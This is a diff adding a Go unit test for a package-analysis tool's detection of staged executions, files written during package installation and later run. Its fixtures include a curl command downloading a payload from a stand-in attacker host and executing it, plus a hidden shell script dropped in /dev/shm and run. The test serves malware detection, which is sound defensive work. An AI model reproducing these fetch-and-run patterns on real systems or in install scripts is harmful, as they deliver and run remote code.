@@ -0,0 +1,42 @@
+package dynamicanalysis_test
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/ossf/package-analysis/internal/dynamicanalysis"
+	"github.com/ossf/package-analysis/internal/strace"
+	"github.com/ossf/package-analysis/pkg/api/analysisrun"
+)
+
+func TestStagedExecutions(t *testing.T) {
+	curl := strace.CommandInfo{Command: []string{"curl", "-o", "/tmp/payload", "https://evil.example.com/x"}}
+	node := strace.CommandInfo{Command: []string{"node", "install.js"}}
+	pip := strace.CommandInfo{Command: []string{"pip", "install", "pkg"}}
+	gcc := strace.CommandInfo{Command: []string{"gcc", "-o", "/tmp/conftest", "conftest.c"}}
+
+	files := []strace.FileInfo{
+		{Path: "/tmp/payload", Write: true, Writers: []strace.CommandInfo{curl}},
+		{Path: "/dev/shm/.x.sh", Write: true, Writers: []strace.CommandInfo{node}},
+		{Path: "/tmp/pip-install-abc/pkg/setup.py", Write: true, Writers: []strace.CommandInfo{pip}},
+		{Path: "/tmp/conftest", Write: true, Writers: []strace.CommandInfo{gcc}},
+		{Path: "/tmp/unknown", Write: true},
+		{Path: "/app/node_modules/pkg/bin/cli.js", Write: true, Writers: []strace.CommandInfo{node}},
+	}
+	runs := []strace.WrittenFileRunInfo{
+		{Path: "/app/node_modules/pkg/bin/cli.js", Command: []string{"node", "bin/cli.js"}},
+		{Path: "/dev/shm/.x.sh", Command: []string{"sh", "/dev/shm/.x.sh"}},
+		{Path: "/tmp/conftest", Command: []string{"/tmp/conftest"}},
+		{Path: "/tmp/payload", Command: []string{"/tmp/payload"}},
+		{Path: "/tmp/pip-install-abc/pkg/setup.py", Command: []string{"python", "setup.py", "egg_info"}},
+		{Path: "/tmp/unknown", Command: []string{"/tmp/unknown"}},
+	}
+
+	want := []analysisrun.StagedExecutionResult{
+		{Path: "/dev/shm/.x.sh", Writer: node.Command, Command: []string{"sh", "/dev/shm/.x.sh"}},
+		{Path: "/tmp/payload", Writer: curl.Command, Command: []string{"/tmp/payload"}},
+	}
+	if got := dynamicanalysis.StagedExecutions(runs, files); !reflect.DeepEqual(got, want) {
+		t.Errorf("StagedExecutions() =\n%+v\nwant\n%+v", got, want)
+	}
+}